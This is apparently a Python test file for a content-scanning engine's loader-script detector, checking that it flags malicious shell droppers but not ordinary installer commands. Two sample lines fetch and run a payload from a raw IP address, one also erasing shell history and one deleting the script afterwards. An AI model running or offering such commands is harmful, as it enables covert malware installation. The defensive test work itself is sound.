"""CON-005: variants beyond its examples."""

from __future__ import annotations

import pytest

from periderm.engines.content import ContentEngine
from periderm.engines.content.detectors.loader_script import DETECTOR

ENGINE = ContentEngine(detectors=(DETECTOR,))
CASES = [
    (b"unset HISTFILE; wget http://203.0.113.5/a -O /tmp/a; chmod 755 /tmp/a; /tmp/a &", "no history kept", True),
    (b"curl -fsSL https://get.example.com | sh", "an installer that people run", False),
    (b"wget http://203.0.113.5/b.sh; chmod 777 b.sh; sh b.sh; rm -rf b.sh\n", "a chain in one line", True),
    (b"curl -fsSL https://example.com/i.sh -o i.sh; chmod +x i.sh; ./i.sh\n", "the same from a name", False),
]


@pytest.mark.parametrize(("data", "why", "fires"), CASES, ids=[why for _, why, _ in CASES])
def test_variants(data: bytes, why: str, fires: bool) -> None:
    """What looks alike is told apart."""
    assert bool(ENGINE.inspect(data)[0]) is fires
